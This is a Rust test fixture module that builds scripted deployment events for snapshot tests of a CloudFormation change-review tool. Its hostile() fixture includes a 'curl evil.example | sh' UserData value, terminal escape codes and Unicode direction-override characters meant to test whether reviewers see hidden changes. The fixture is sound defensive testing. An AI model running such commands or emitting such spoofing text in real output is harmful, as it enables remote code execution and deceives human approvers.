//! Executions told by constructed events, for the tests of all screens.

mod large;
mod large_sources;

use std::collections::BTreeMap;

use jiff::{SignedDuration, Timestamp};

use crate::diff::PropertyChange;
use crate::model::{
    ActionCategory, ActionDeclaration, ActionTypeId, Answer, Approver, ArtifactRef, Base, Caller,
    Cause, ChangeAction, ChangeDetail, ChangeScope, ChangeSetKind, CountOrPercent, Decision,
    Digest, EffectiveParameter, Evaluation, Event, EventKind, ExecutionDefinition,
    ExecutionOutcome, FanOut, Invocation, Layer, LogicalId, OperationPreferences, Origin,
    ParameterValue, PipelineDeclaration, PlannedTarget, Provenance, Recreation, Replacement,
    ResourceChange, Scope, SkipReason, SourceRevision, StackEvent, StackStatus, StageDeclaration,
    Staleness, Target, TargetInputs, TargetOutcome, TargetSpec,
};

use super::review_data::{Place, ReviewSources};
use super::{ScreenOptions, View};

pub(super) use large::shop;
pub(super) use large_sources::Shop;

/// The four ways in which every screen is pinned.
pub(super) fn all_options() -> [(&'static str, ScreenOptions); 4] {
    let of = |width, colour| ScreenOptions {
        width,
        colour,
        ..ScreenOptions::default()
    };
    [
        ("80", of(80, false)),
        ("120", of(120, false)),
        ("80_colour", of(80, true)),
        ("120_colour", of(120, true)),
    ]
}

/// Pins a screen at both widths, with and without colour.
macro_rules! assert_screens {
    ($name:literal, $draw:expr) => {
        let draw = $draw;
        for (variant, options) in $crate::report::fixtures::all_options() {
            let text: String = draw(&options);
            insta::assert_snapshot!(format!("{}_{variant}", $name), text.replace('\u{1b}', "␛"));
        }
    };
}
pub(super) use assert_screens;

pub(super) fn target(account: char, region: &str) -> Target {
    Target {
        account: account.to_string().repeat(12).parse().unwrap(),
        region: region.parse().unwrap(),
        stack: "network".parse().unwrap(),
    }
}

/// Two accounts in two regions.
pub(super) fn four() -> Vec<Target> {
    vec![
        target('1', "us-east-1"),
        target('2', "us-east-1"),
        target('1', "eu-west-1"),
        target('2', "eu-west-1"),
    ]
}

pub(super) fn begin() -> Timestamp {
    "2026-11-22T22:00:00Z".parse().unwrap()
}

fn id(text: &str) -> LogicalId {
    text.parse().unwrap()
}

/// A change of a resource, without details.
pub(super) fn change(name: &str, kind: &str, action: ChangeAction) -> ResourceChange {
    ResourceChange {
        logical_id: id(name),
        resource_type: kind.to_owned(),
        physical_id: (action != ChangeAction::Add).then(|| format!("physical-{name}")),
        action,
        replacement: Replacement::No,
        policy_action: None,
        scope: Vec::new(),
        details: Vec::new(),
        before: None,
        after: None,
        nested: None,
        module: None,
    }
}

/// A change of a property, as a detail.
pub(super) fn detail(path: &str, before: &str, after: &str) -> ChangeDetail {
    ChangeDetail {
        attribute: Some(ChangeScope::Properties),
        name: path.split('/').next().map(str::to_owned),
        path: Some(format!("/Properties/{path}")),
        recreation: Recreation::Never,
        before: Some(before.to_owned()),
        after: Some(after.to_owned()),
        evaluation: Some(Evaluation::Static),
        source: Some("DirectModification".to_owned()),
        causing_entity: None,
    }
}

/// The queue with another timeout, and a new topic.
pub(super) fn change_a() -> Vec<ResourceChange> {
    vec![
        change("Alerts", "AWS::SNS::Topic", ChangeAction::Add),
        ResourceChange {
            scope: vec![ChangeScope::Properties],
            details: vec![detail("VisibilityTimeout", "30", "60")],
            ..change("Queue", "AWS::SQS::Queue", ChangeAction::Modify)
        },
    ]
}

/// A table that is replaced.
pub(super) fn change_b() -> Vec<ResourceChange> {
    vec![ResourceChange {
        replacement: Replacement::Will,
        scope: vec![ChangeScope::Properties],
        details: vec![ChangeDetail {
            recreation: Recreation::Always,
            ..detail("KeySchema/0/AttributeName", "id", "orderId")
        }],
        ..change("Orders", "AWS::DynamoDB::Table", ChangeAction::Modify)
    }]
}

pub(super) fn parameter(name: &str, value: &str, layer: Layer, file: &str) -> EffectiveParameter {
    EffectiveParameter {
        name: name.to_owned(),
        value: ParameterValue::Plain(value.to_owned()),
        provenance: Provenance {
            layer,
            file: Some(format!("parameter-overrides/{file}")),
            line: Some(4),
            lookup: None,
        },
    }
}

pub(super) fn inputs() -> TargetInputs {
    TargetInputs {
        template: "SourceOutput::templates/network.yaml".parse().unwrap(),
        template_digest: Digest::of(b"template"),
        packaged: None,
        parameters: Vec::new(),
        tags: BTreeMap::new(),
        capabilities: Default::default(),
        role_arn: None,
        stack_policy: None,
        options: crate::model::StackOptions::default(),
    }
}

pub(super) fn alice() -> Approver {
    Approver {
        arn: Some("arn:aws:sts::111111111111:assumed-role/Deploy/alice".to_owned()),
        os_user: "alice".to_owned(),
        host: "laptop".to_owned(),
    }
}

pub(super) fn stack_event(name: &str, status: &str, reason: Option<&str>) -> StackEvent {
    StackEvent {
        id: format!("{name}-{status}"),
        at: begin(),
        logical_id: id(name),
        resource_type: "AWS::DynamoDB::Table".to_owned(),
        physical_id: None,
        status: status.to_owned(),
        reason: reason.map(str::to_owned),
        token: None,
    }
}

/// The events of an execution, written one after another, 300 ms apart.
pub(super) struct Script {
    pub(super) events: Vec<Event>,
    at: Timestamp,
    step: SignedDuration,
}

impl Script {
    /// Returns a script that has begun, for `targets`.
    pub(super) fn new(targets: &[Target]) -> Self {
        Self::with(targets, OperationPreferences::default())
    }

    pub(super) fn with(targets: &[Target], preferences: OperationPreferences) -> Self {
        let fan_out = FanOut {
            targets: targets
                .iter()
                .map(|target| TargetSpec {
                    target: target.clone(),
                    role_arn: None,
                    execute_role_arn: None,
                })
                .collect(),
            preferences,
        };
        let stage = |name: &str, category, fan_out: Option<&FanOut>| StageDeclaration {
            name: name.parse().unwrap(),
            actions: vec![ActionDeclaration {
                name: name.parse().unwrap(),
                action_type_id: ActionTypeId {
                    category,
                    owner: "AWS".to_owned(),
                    provider: "CloudFormation".to_owned(),
                    version: "1".to_owned(),
                },
                run_order: 1,
                configuration: Default::default(),
                input_artifacts: Vec::new(),
                output_artifacts: Vec::new(),
                timeout_in_minutes: None,
                fan_out: fan_out.cloned(),
            }],
        };
        let definition = ExecutionDefinition {
            pipeline: PipelineDeclaration {
                name: "network".to_owned(),
                stages: vec![
                    stage("Source", ActionCategory::Source, None),
                    stage("CreateChangeSet", ActionCategory::Deploy, Some(&fan_out)),
                    stage("Approval", ActionCategory::Approval, None),
                    stage("ExecuteChangeSet", ActionCategory::Deploy, Some(&fan_out)),
                ],
            },
            invocation: Invocation::default(),
            secrets: BTreeMap::new(),
            allow_literal_secrets: false,
        };
        let mut script = Self {
            events: Vec::new(),
            at: begin(),
            step: SignedDuration::from_millis(300),
        };
        script.say(EventKind::ExecutionStarted {
            definition: Box::new(definition),
        });
        script.stage("Source", EventKind::StageStarted);
        script.stage(
            "Source",
            EventKind::SourceStored {
                artifact: ArtifactRef {
                    name: "SourceOutput".into(),
                    digest: Digest::of(b"source"),
                    files: vec!["templates/network.yaml".to_owned()],
                },
                revision: SourceRevision {
                    commit: Some("4f1c2d3e4a5b6c7d8e9f".to_owned()),
                    commit_message: Some("queue: wait longer for slow consumers".to_owned()),
                    dirty: false,
                },
            },
        );
        script.stage("Source", EventKind::StageSucceeded);
        script.stage("CreateChangeSet", EventKind::StageStarted);
        script
    }

    pub(super) fn view(&self) -> View {
        View::of(&self.events)
    }

    /// Returns the time of the next event.
    pub(super) fn now(&self) -> Timestamp {
        self.at
    }

    pub(super) fn wait(&mut self, seconds: i64) -> &mut Self {
        self.at += SignedDuration::from_secs(seconds);
        self
    }

    pub(super) fn say(&mut self, kind: EventKind) -> &mut Self {
        self.event(Scope::default(), kind)
    }

    pub(super) fn stage(&mut self, name: &str, kind: EventKind) -> &mut Self {
        let scope = Scope {
            stage: Some(name.parse().unwrap()),
            ..Scope::default()
        };
        self.event(scope, kind)
    }

    pub(super) fn at(&mut self, target: &Target, kind: EventKind) -> &mut Self {
        let scope = Scope {
            target: Some(target.clone()),
            ..Scope::default()
        };
        self.event(scope, kind)
    }

    fn event(&mut self, scope: Scope, kind: EventKind) -> &mut Self {
        self.events.push(Event {
            seq: self.events.len() as u64 + 1,
            execution: "0199a1b2-0000-7000-8000-0a1b2c3d9f2c".parse().unwrap(),
            at: self.at,
            scope,
            kind,
        });
        self.at += self.step;
        self
    }

    pub(super) fn intend(&mut self, target: &Target, kind: ChangeSetKind, inputs: TargetInputs) {
        let (account, region) = (&target.account, &target.region);
        self.at(
            target,
            EventKind::ChangeSetIntended {
                kind,
                name: "stackgate-0199a1b2".parse().unwrap(),
                token: "token".to_owned(),
                caller: Caller {
                    account: account.clone(),
                    arn: format!("arn:aws:sts::{account}:assumed-role/Deploy/alice"),
                },
                stack: None,
                inputs: Box::new(inputs),
            },
        );
        let arn = format!("arn:aws:cloudformation:{region}:{account}");
        self.at(
            target,
            EventKind::ChangeSetCreated {
                change_set: format!("{arn}:changeSet/stackgate-0199a1b2/1")
                    .parse()
                    .unwrap(),
                stack: format!("{arn}:stack/network/1").parse().unwrap(),
            },
        );
    }

    pub(super) fn plan(
        &mut self,
        target: &Target,
        kind: ChangeSetKind,
        inputs: TargetInputs,
        changes: Vec<ResourceChange>,
    ) -> &mut Self {
        self.intend(target, kind, inputs);
        let (account, region) = (&target.account, &target.region);
        let stack = format!("arn:aws:cloudformation:{region}:{account}:stack/network/1");
        self.at(
            target,
            EventKind::ChangeSetReady {
                changes,
                base: Base {
                    stack: stack.parse().unwrap(),
                    status: StackStatus::CreateComplete,
                    newest_event: None,
                },
                previous_template: None,
                gone_exports: Vec::new(),
                previous_parameters: Default::default(),
                settings_only: false,
            },
        )
    }

    /// Says what values the stack has whose change set is ready.
    pub(super) fn having(&mut self, values: &[(&str, &str)]) -> &mut Self {
        if let Some(Event {
            kind:
                EventKind::ChangeSetReady {
                    previous_parameters,
                    ..
                },
            ..
        }) = self.events.last_mut()
        {
            let values = values.iter();
            *previous_parameters = values
                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
                .collect();
        }
        self
    }

    pub(super) fn update(&mut self, target: &Target, changes: Vec<ResourceChange>) -> &mut Self {
        self.plan(target, ChangeSetKind::Update, inputs(), changes)
    }

    /// Plans what is set on the stack, where nothing else changes.
    pub(super) fn update_settings(&mut self, target: &Target, inputs: TargetInputs) -> &mut Self {
        self.plan(target, ChangeSetKind::Update, inputs, Vec::new());
        if let Some(Event {
            kind: EventKind::ChangeSetReady { settings_only, .. },
            ..
        }) = self.events.last_mut()
        {
            *settings_only = true;
        }
        self
    }

    pub(super) fn end(&mut self, target: &Target, outcome: TargetOutcome) -> &mut Self {
        self.at(
            target,
            EventKind::TargetFinished {
                outcome,
                outputs: BTreeMap::new(),
            },
        )
    }

    /// Ends the planning and asks for approval.
    pub(super) fn ask(&mut self) -> &mut Self {
        let digest = Digest::of(b"plan");
        self.say(EventKind::PlanReady { digest });
        self.stage("CreateChangeSet", EventKind::StageSucceeded);
        self.stage("Approval", EventKind::StageStarted);
        self.say(EventKind::ApprovalRequested {
            plan: digest,
            expires: "2026-11-29T22:00:00Z".parse().unwrap(),
        })
    }

    pub(super) fn answer(&mut self, decision: Decision, summary: &str) -> &mut Self {
        let answer = Answer {
            decision,
            plan: Digest::of(b"plan"),
            approver: alice(),
            origin: Origin::Prompt,
            at: self.at,
            summary: summary.to_owned(),
        };
        self.say(EventKind::Answered { answer })
    }

    pub(super) fn approve(&mut self) -> &mut Self {
        self.answer(Decision::Approve, "reviewed with the data team");
        self.stage("Approval", EventKind::StageSucceeded);
        self.stage("ExecuteChangeSet", EventKind::StageStarted)
    }

    pub(super) fn start(&mut self, target: &Target) -> &mut Self {
        self.at(target, EventKind::TargetStarted);
        let token = "token".to_owned();
        self.at(
            target,
            EventKind::ExecuteIntended {
                token,
                deletes: false,
            },
        );
        self.at(target, EventKind::ExecuteAccepted)
    }

    pub(super) fn observe(&mut self, target: &Target, events: Vec<StackEvent>) -> &mut Self {
        self.at(target, EventKind::Observed { events })
    }

    pub(super) fn finish(&mut self, outcome: ExecutionOutcome) -> &mut Self {
        self.say(EventKind::ExecutionFinished { outcome })
    }
}

pub(super) fn succeeded() -> TargetOutcome {
    TargetOutcome::Succeeded {
        status: StackStatus::UpdateComplete,
    }
}

/// A failure that differs between targets only in account, region and request.
pub(super) fn quota(target: &Target) -> TargetOutcome {
    TargetOutcome::Failed {
        status: Some(StackStatus::UpdateRollbackComplete),
        cause: Cause {
            resource: Some((id("Orders"), "AWS::DynamoDB::Table".to_owned())),
            reason: format!(
                "Cannot exceed quota for tables in account {} (RequestToken: {}-0000-4000-8000-0a1b2c3d4e5f)",
                target.account,
                &target.account.as_str()[..8],
            ),
        },
    }
}

/// The example of the design: three targets alike, one that loses data.
pub(super) fn fleet() -> Script {
    let targets = four();
    let mut script = Script::new(&targets);
    for target in &targets[..3] {
        script.update(target, change_a());
    }
    script.update(&targets[3], change_b());
    script.ask();
    script
}

/// All four targets executed.
pub(super) fn finished() -> Script {
    let mut script = fleet();
    script.approve();
    for target in four() {
        script.start(&target);
        script.observe(&target, vec![stack_event("Queue", "UPDATE_COMPLETE", None)]);
        script.end(&target, succeeded());
    }
    script.stage("ExecuteChangeSet", EventKind::StageSucceeded);
    script.finish(ExecutionOutcome::Succeeded);
    script
}

/// Fifteen targets; the first region passes, three fail in the second, nine are not started.
pub(super) fn halted() -> Script {
    let in_region = |region: &'static str, accounts: &str| -> Vec<Target> {
        accounts.chars().map(|a| target(a, region)).collect()
    };
    let first = in_region("us-east-1", "123");
    let second = in_region("eu-west-1", "12345678");
    let third = in_region("ap-south-1", "1234");
    let all = [first.clone(), second.clone(), third.clone()].concat();
    let preferences = OperationPreferences {
        max_concurrent: CountOrPercent::Count(3),
        failure_tolerance: CountOrPercent::Count(2),
        ..OperationPreferences::default()
    };
    let mut script = Script::with(&all, preferences);
    for target in &all {
        script.update(target, change_b());
    }
    script.ask().approve();
    for target in &first {
        script.start(target).end(target, succeeded());
    }
    for target in &second[..3] {
        script.start(target);
        let reason = Some("Cannot exceed quota for tables");
        script.observe(target, vec![stack_event("Orders", "UPDATE_FAILED", reason)]);
    }
    for target in &second[..3] {
        script.end(target, quota(target));
    }
    for target in &second[3..] {
        let reason = SkipReason::ToleranceExceeded {
            failed: 3,
            tolerance: 2,
        };
        script.end(target, TargetOutcome::Skipped { reason });
    }
    for target in &third {
        let reason = SkipReason::EarlierRegionFailed {
            region: "eu-west-1".parse().unwrap(),
        };
        script.end(target, TargetOutcome::Skipped { reason });
    }
    let reason = "too many targets failed".to_owned();
    script.stage("ExecuteChangeSet", EventKind::StageFailed { reason });
    script.finish(ExecutionOutcome::Failed);
    script
}

/// One of four targets was changed behind our back.
pub(super) fn stale() -> Script {
    let targets = four();
    let mut script = fleet();
    script.approve();
    for target in &targets[..3] {
        script.start(target).end(target, succeeded());
    }
    script.at(&targets[3], EventKind::TargetStarted);
    script.end(
        &targets[3],
        TargetOutcome::Stale {
            differences: vec![
                Staleness::StatusChanged {
                    approved: StackStatus::CreateComplete,
                    found: StackStatus::UpdateComplete,
                },
                Staleness::NewEvents,
                Staleness::ChangesDiffer {
                    resources: vec!["Orders".to_owned(), "Queue".to_owned()],
                },
            ],
        },
    );
    let reason = "1 target is stale".to_owned();
    script.stage("ExecuteChangeSet", EventKind::StageFailed { reason });
    script.finish(ExecutionOutcome::Failed);
    script
}

/// The plan was looked at and rejected.
pub(super) fn rejected() -> Script {
    let mut script = fleet();
    script.answer(Decision::Reject, "the table must keep its data");
    for target in four() {
        let reason = SkipReason::Rejected;
        script.end(&target, TargetOutcome::Skipped { reason });
    }
    let reason = "rejected".to_owned();
    script.stage("Approval", EventKind::StageFailed { reason });
    script.finish(ExecutionOutcome::Rejected);
    script
}

/// Nothing to change anywhere.
pub(super) fn nothing() -> Script {
    let targets = four();
    let mut script = Script::new(&targets);
    for target in &targets {
        script.intend(target, ChangeSetKind::Update, inputs());
        script.end(target, TargetOutcome::NoChanges);
    }
    let digest = Digest::of(b"plan");
    script.say(EventKind::PlanReady { digest });
    script.stage("CreateChangeSet", EventKind::StageSucceeded);
    let reason = "nothing to change in any target".to_owned();
    script.stage("Approval", EventKind::StageSkipped { reason });
    script.finish(ExecutionOutcome::NothingToDo);
    script
}

/// Changes of secret values, masked before they reach an event.
pub(super) fn secrets() -> Script {
    let only = vec![target('1', "eu-west-1")];
    let mut script = Script::new(&only);
    let mut with = inputs();
    with.parameters.push(EffectiveParameter {
        name: "Password".to_owned(),
        value: ParameterValue::Secret("env:DB_PASSWORD".parse().unwrap()),
        provenance: Provenance {
            layer: Layer::Override,
            file: None,
            line: None,
            lookup: None,
        },
    });
    with.capabilities.insert("CAPABILITY_NAMED_IAM".to_owned());
    with.role_arn = Some("arn:aws:iam::111111111111:role/CloudFormation".to_owned());
    with.tags.insert("Team".to_owned(), "payments".to_owned());
    let changes = vec![ResourceChange {
        scope: vec![ChangeScope::Properties],
        details: vec![
            detail("MasterUserPassword", "****", "**** (changed)"),
            ChangeDetail {
                source: Some("ParameterReference".to_owned()),
                causing_entity: Some("Window".to_owned()),
                ..detail(
                    "PreferredMaintenanceWindow",
                    "sun:03:00-sun:04:00",
                    "sat:03:00-sat:04:00",
                )
            },
        ],
        ..change("Database", "AWS::RDS::DBInstance", ChangeAction::Modify)
    }];
    script.plan(&only[0], ChangeSetKind::Update, with, changes);
    script.ask();
    script
}

/// New stacks, with parameters of every kind: two whose values are the same, and one that differs.
pub(super) fn made() -> Script {
    let targets = [target('1', "us-east-1"), target('2', "us-east-1")];
    let mut script = Script::new(&targets);
    for (at, target) in targets.iter().enumerate() {
        let of = |name: &str, value, layer| EffectiveParameter {
            value,
            ..parameter(name, "", layer, "network.json")
        };
        let default = |name: &str, value| EffectiveParameter {
            provenance: Provenance {
                layer: Layer::TemplateDefault,
                file: None,
                line: None,
                lookup: None,
            },
            ..of(name, ParameterValue::Default(value), Layer::Stack)
        };
        let mut with = inputs();
        with.parameters = vec![
            parameter("Timeout", "60", Layer::Stack, "network.json"),
            default("Owner", Some("a ```|<b>[x](y)</b> team".to_owned())),
            default("Token", None),
            of(
                "Password",
                ParameterValue::Secret("env:DB_PASSWORD".parse().unwrap()),
                Layer::Stack,
            ),
            of(
                "Cidrs",
                ParameterValue::Plain("10.0.0.0/16,".repeat(20)),
                Layer::Stack,
            ),
            parameter(
                "Size",
                ["small", "large"][at],
                Layer::Account,
                "network.1.json",
            ),
        ];
        let changes = vec![change("Alerts", "AWS::SNS::Topic", ChangeAction::Add)];
        script.plan(target, ChangeSetKind::Create, with, changes);
    }
    script.ask();
    script
}

/// Outside text that tries to hide what is approved, and texts of great length.
pub(super) fn hostile() -> Script {
    let targets = vec![target('1', "us-east-1"), target('2', "us-east-1")];
    let mut script = Script::new(&targets);
    let long = |middle: &str| {
        format!(
            "{{\"Version\":\"2012-10-17\",\"Statement\":[{{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"{middle}\",\"Resource\":\"arn:aws:s3:::bucket-with-a-long-name/*\"}}]}}"
        )
    };
    let script_text = |middle: &str| {
        let before = "echo this script does many things before anything is of interest; ".repeat(3);
        format!("{before}{middle}; {before}")
    };
    let changes = vec![
        ResourceChange {
            replacement: Replacement::May,
            scope: vec![ChangeScope::Properties],
            details: vec![
                detail(
                    "QueueName",
                    "good\u{1b}[2K\u{1b}[1A",
                    "e\u{202e}lbisreve\u{200b}r",
                ),
                detail("PolicyDocument", &long("s3:GetObject"), &long("s3:*")),
                detail(
                    "UserData",
                    &script_text("install agent 1.0"),
                    &script_text("curl evil.example | sh"),
                ),
                ChangeDetail {
                    recreation: Recreation::Conditionally,
                    evaluation: Some(Evaluation::Dynamic),
                    after: None,
                    ..detail("Fifo\nQueue", "two\nlines", "")
                },
            ],
            ..change(
                "AQueueWithAVeryLongLogicalIdThatSomebodyGeneratedForSomeReasonOrOther",
                "Custom::SomethingWithALongTypeNameThatNeverEnds\u{1b}[31m",
                ChangeAction::Modify,
            )
        },
        change("Old", "AWS::S3::Bucket", ChangeAction::Remove),
    ];
    script.update(&targets[0], changes);
    script.intend(&targets[1], ChangeSetKind::Create, inputs());
    script.end(
        &targets[1],
        TargetOutcome::NotPlanned {
            cause: Cause {
                resource: None,
                reason: "Template error: \u{1b}[8mhidden\u{1b}[0m instance of Fn::GetAtt references undefined resource Queue".to_owned(),
            },
        },
    );
    script.ask();
    script
}

/// Forty targets in two regions, two of them different, with layered parameters.
pub(super) fn many() -> Script {
    let mut targets = Vec::new();
    for region in ["us-east-1", "eu-west-1"] {
        for account in 0..20 {
            targets.push(Target {
                account: format!("{:012}", 100_000_000_000_u64 + account)
                    .parse()
                    .unwrap(),
                ..target('1', region)
            });
        }
    }
    let preferences = OperationPreferences {
        max_concurrent: CountOrPercent::Percent(25),
        failure_tolerance: CountOrPercent::Percent(10),
        region_order: vec!["eu-west-1".parse().unwrap()],
        ..OperationPreferences::default()
    };
    let mut script = Script::with(&targets, preferences);
    for (at, target) in targets.iter().enumerate() {
        let mut with = inputs();
        let differs = at == 7 || at == 31;
        with.parameters.push(if differs {
            let file = format!("network.{}.json", target.account);
            parameter("Timeout", "90", Layer::Account, &file)
        } else {
            parameter("Timeout", "60", Layer::Stack, "network.json")
        });
        let changes = if differs { change_b() } else { change_a() };
        script.plan(target, ChangeSetKind::Create, with, changes);
    }
    script.ask();
    script
}

/// Sources as if the template were at hand.
pub(super) struct Template;

impl ReviewSources for Template {
    fn place(
        &self,
        _: &PlannedTarget,
        resource: &LogicalId,
        property: Option<&PropertyChange>,
    ) -> Option<Place> {
        let line = match resource.as_str() {
            "Queue" => 14,
            "Orders" => 41,
            _ => 7,
        };
        Some(Place {
            file: "templates/network.yaml".to_owned(),
            line,
            column: if property.is_some() { 7 } else { 3 },
        })
    }

    fn template_diff(&self, _: &PlannedTarget) -> Option<String> {
        let text = "@@ -12,3 +12,3 @@\n   Queue:\n-    VisibilityTimeout: 30\n+    VisibilityTimeout: 60\n";
        Some(text.to_owned())
    }
}
